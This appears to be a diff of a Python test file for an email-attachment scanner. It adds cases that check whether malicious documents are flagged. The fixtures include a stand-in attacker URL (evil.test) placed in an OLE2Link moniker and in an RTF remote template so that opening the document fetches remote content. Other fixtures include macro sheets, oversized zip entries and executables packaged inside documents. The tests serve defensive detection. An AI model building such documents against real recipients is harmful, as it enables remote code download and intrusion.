@@ -58,6 +58,9 @@ def test_a_mail_without_attachments():
     assert (found.result, found.fields, found.reason) == (Result.NONE, {"count": 0}, "no attachments")
 
 
+LINK = bytes(20) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "http://evil.test/a".encode("utf-16-le")
+
+
 def test_an_attachment_is_told_whole():
     found = look(("Bill.PDF", PDF, "application/pdf"))
     assert (found.result, found.reason, found.warning) == (Result.PASS, "1 attachment", "")
@@ -102,7 +105,11 @@ def test_an_attachment_is_told_whole():
         (("a.pdf", b"GIF89a" + PDF + b"<</S /JavaScript>>"), "script", ("javascript",)),
         (("a.pdf", b"GIF89a" + PDF + b"<</Encrypt 3 0 R>>"), "encrypted", True),
         (("a.docx", zipped(("[Content_Types].xml", b""), ("word/_rels/settings.xml.rels", TEMPLATE))), "fetches", True),
+        (("a.rtf", zipped(("[Content_Types].xml", b""), ("word/_rels/settings.xml.rels", TEMPLATE))), "fetches", True),
+        (("a.docx", zipped(("a.rels", b" " * (9 << 20)), method=0)), "unread", True),
+        (("a.xlsx", zipped(("[Content_Types].xml", b'<Default ContentType="x.macrosheet+xml"/>'))), "macros", True),
         (("a.doc", b"{\\rtf1{\\*\\template http://evil.test/a}}"), "fetches", True),
+        (("a.doc", rtf(b"OLE2Link", ole({"\1Ole": LINK}))), "fetches", True),
         (("a.doc", rtf(b"Package", packaged(b"b.exe", PROGRAM)[4:])), "extension", ("doc", "exe")),
         (("winmail.dat", tnef((b"b.exe", "b.exe", PROGRAM))), "extension", ("dat", "exe")),
         (("a.html", b"<html><a onclick = 'x()'>", "text/html"), "script", ("javascript",)),
